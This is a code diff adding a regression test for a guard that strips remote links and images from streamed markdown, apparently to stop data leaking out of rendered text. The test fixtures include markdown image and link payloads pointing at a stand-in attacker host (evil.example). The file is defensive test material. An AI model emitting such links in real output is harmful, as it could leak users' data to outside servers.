@@ -133,6 +133,22 @@ describe('exfiltration: regressions', () => {
     });
   }
 
+  it('a bare URL overlapping a link or image: streamed equals whole for every split (seed 77, doc #1102)', () => {
+    // linkify reads `https://…877![alt]` as one URL, the other configurations the image (or link) after it; the
+    // union of the two rewrites must keep the URL's beginning, which a stream releases before the `!` or `[` arrives
+    const docs = [
+      'http://v/3f2a9c1e8b798877[](s:\n"")', // minimised from the fuzz document
+      'see https://evil.example/u/3f2a9c1e8b7d6a5f4e3d2c1b0a998877![alt](<https://evil.example/c/x>\n"t")',
+    ];
+    for (const input of docs) {
+      assert.notDeepEqual(violations(input, ALLOWED), [], 'the input itself renders something remote');
+      const whole = assertSafe(input);
+      const splits = [Array.from({ length: input.length - 1 }, (_, j) => j + 1)];
+      for (let c = 1; c < input.length; c++) splits.push([c]);
+      for (const cuts of splits) assert.equal(streamed(guard, input, cuts).text, whole, `cuts ${cuts.join(',')}`);
+    }
+  });
+
   it('keeps allowed, relative and code content as it is', () => {
     const benign = [
       'See [the guide](https://docs.example.com/guide) and ![arch](https://docs.example.com/a.png).',
